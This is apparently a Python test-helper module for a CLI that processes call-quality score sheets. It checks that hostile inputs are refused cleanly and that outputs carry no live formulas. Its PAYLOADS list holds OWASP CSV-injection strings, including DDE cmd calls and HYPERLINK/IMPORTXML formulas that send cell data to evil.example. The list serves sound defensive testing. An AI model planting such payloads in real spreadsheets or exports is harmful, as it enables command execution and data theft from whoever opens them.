"""What the hostile-input tests share (issue 13): running zhijian as a user would (CliRunner, or a
real subprocess when a resource limit or another user is needed), the checks every case makes
(exit code, one message, no traceback, inputs unchanged), and readers of outputs that look for
formulas and unescaped CSV cells."""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import io
import os
import re
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import Iterable

from click.testing import CliRunner

from sheetkit import LISTENING_HEADER, SheetSpec, listening_row, write_xlsx
from zhijian.cli.main import cli

RUBRIC = "listening-10x4"
D1, D2 = dt.date(2026, 11, 2), dt.date(2026, 11, 3)
ENV = {"COLUMNS": "1000"}

# The OWASP CSV-injection payloads (owasp.org/www-community/attacks/CSV_Injection) and the forms
# the issue found: each must stay text in every workbook and be neutralised in every CSV.
PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&B5,"点此查看")',
    "=10+20+cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def invoke(*args, env: dict | None = None):
    """Run a command in-process, as a user would type it; never a traceback or an internal error."""
    result = CliRunner().invoke(cli, [str(a) for a in args], env={**ENV, **(env or {})})
    assert "Traceback" not in result.output, result.output
    assert "内部错误" not in result.output, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
    return result


def run(*args, cwd: Path | None = None, env: dict | None = None, preexec=None, timeout: float = 120):
    """Run `zhijian …` in its own process (for resource limits and other users)."""
    full_env = {**os.environ, **ENV, "PYTHONWARNINGS": "ignore", **(env or {})}
    return subprocess.run([sys.executable, "-m", "zhijian.cli.main", *map(str, args)], cwd=cwd, env=full_env,
                          capture_output=True, text=True, preexec_fn=preexec, timeout=timeout)


def lines(text: str) -> list[str]:
    return [x for x in text.splitlines() if x.strip()]


def assert_one_message(stderr: str, phrase: str) -> None:
    """Exactly one non-empty line on stderr, holding `phrase`, and no traceback."""
    assert "Traceback" not in stderr and "内部错误" not in stderr, stderr
    got = lines(stderr)
    assert len(got) == 1, stderr
    assert phrase in got[0], stderr


def refused(result, phrase: str, code: int = 2) -> None:
    """A CliRunner result: exit `code`, nothing on stdout, one line on stderr holding `phrase`."""
    assert result.exit_code == code, result.output
    assert result.stdout.strip() == "", result.output
    assert_one_message(result.stderr, phrase)


def sha256(path: Path) -> str:
    return hashlib.sha256(Path(path).read_bytes()).hexdigest()


def digests(folder: Path) -> dict[str, str]:
    """sha256 of every file under `folder` (symlinks not followed)."""
    out = {}
    for top, _, files in os.walk(folder):
        for f in files:
            p = Path(top) / f
            if not p.is_symlink():
                out[str(p.relative_to(folder))] = sha256(p)
    return out


def sheet(folder: Path, name: str = "day.xlsx", *, remarks=None, agents=None, inspector: str = "王敏",
          sheet_name: str = "评分表", rows: int = 3, day: dt.date = D1) -> Path:
    """A clean listening-10x4 sheet of `rows` calls (2 × 50 = 100 each)."""
    folder.mkdir(parents=True, exist_ok=True)
    data = [LISTENING_HEADER]
    for i in range(rows):
        data.append(listening_row(day, inspector, 1001 + i, (agents or ["王芳"])[i % len(agents or ["王芳"])],
                                  f"R{day:%m%d}{i:03d}", [5] * 10, total=100,
                                  remarks=(remarks[i % len(remarks)] if remarks else None)))
    return write_xlsx(folder / name, [SheetSpec(sheet_name, data)])


# --- reading outputs ---------------------------------------------------------------------------

_FORMULA = re.compile(rb"<(?:\w+:)?f[ >/]")


def formula_parts(path: Path) -> dict[str, int]:
    """{part name: number of <f> elements} for every part of a workbook holding a formula."""
    out = {}
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.endswith(".xml"):
                n = len(_FORMULA.findall(z.read(name)))
                if n:
                    out[name] = n
    return out


def assert_no_formula(paths: Iterable[Path]) -> None:
    for p in paths:
        assert formula_parts(p) == {}, f"{p}: {formula_parts(p)}"


def texts(path: Path) -> str:
    """Every text of a workbook's sheets and shared strings, unescaped, for "is it there as text"."""
    import html

    out = []
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/") and name.endswith(".xml"):
                out += re.findall(r"<(?:\w+:)?t(?:\s[^>]*)?>([^<]*)</", z.read(name).decode("utf-8"))
    return "\n".join(html.unescape(t) for t in out)


def unsafe_csv_cells(path: Path) -> list[str]:
    """CSV cells a spreadsheet would run: starting with = + - @ tab or CR and not a number."""
    from zhijian.files.cells import is_number_text

    text = Path(path).read_text(encoding="utf-8-sig")
    bad = []
    for row in csv.reader(io.StringIO(text, newline="")):
        bad += [c for c in row if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not is_number_text(c)]
    return bad
